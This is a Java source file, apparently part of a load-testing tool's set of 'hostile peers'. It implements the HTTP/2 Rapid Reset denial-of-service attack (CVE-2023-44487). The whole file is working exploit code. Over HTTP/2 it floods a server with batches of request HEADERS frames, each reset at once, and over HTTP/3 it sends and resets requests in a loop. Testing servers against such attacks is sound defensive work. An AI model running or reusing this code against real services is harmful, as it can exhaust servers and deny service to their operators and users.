/* SPDX-License-Identifier: Apache-2.0 */
package org.sbamock.loadgen.attack.peer;

import java.io.IOException;
import java.time.Duration;
import java.util.EnumSet;
import java.util.Set;
import org.sbamock.http.HttpProtocol;
import org.sbamock.loadgen.attack.wire.AttackSession;
import org.sbamock.loadgen.attack.wire.Http2Frames;
import org.sbamock.loadgen.attack.wire.Octets;
import org.sbamock.loadgen.attack.wire.QuicWindows;
import org.sbamock.loadgen.attack.wire.RawConnection;
import org.sbamock.loadgen.attack.wire.RawQuicConnection;
import org.sbamock.loadgen.attack.wire.RequestHead;

/** A peer that cancels each request at once (CVE-2023-44487). */
final class RapidReset implements HostilePeer {
  private static final int BATCH = 100;
  private static final Duration BLOCKED = Duration.ofMillis(1);

  @Override
  public String id() {
    return "rapid-reset";
  }

  @Override
  public String description() {
    return "Sends requests without end, and resets the stream of each at once.";
  }

  @Override
  public Set<HttpProtocol> protocols() {
    return EnumSet.of(HttpProtocol.H2C, HttpProtocol.H2, HttpProtocol.H3);
  }

  @Override
  public void attack(AttackSession session) throws IOException, InterruptedException {
    RequestHead head = RequestHead.get(session.target(), FileSize.MEDIUM.path());
    if (session.target().protocol().quic()) {
      try (RawQuicConnection connection = session.connectQuic(QuicWindows.LARGE)) {
        while (!session.isOver()) {
          if (connection.allowsRequest()) {
            connection.reset(connection.send(head, true));
          } else {
            session.pause(BLOCKED);
          }
        }
      }
      return;
    }
    try (RawConnection connection = session.connect()) {
      connection.drain();
      connection.write(Http2Frames.preface(Http2Frames.DEFAULT_WINDOW));
      for (int i = 0; !session.isOver(); i += BATCH) {
        Octets batch = new Octets();
        for (int j = i; j < i + BATCH; j++) {
          batch.octets(Http2Frames.headers(Streams.id(j), true, head));
          batch.octets(Http2Frames.reset(Streams.id(j)));
        }
        connection.write(batch.toArray());
      }
    }
  }
}
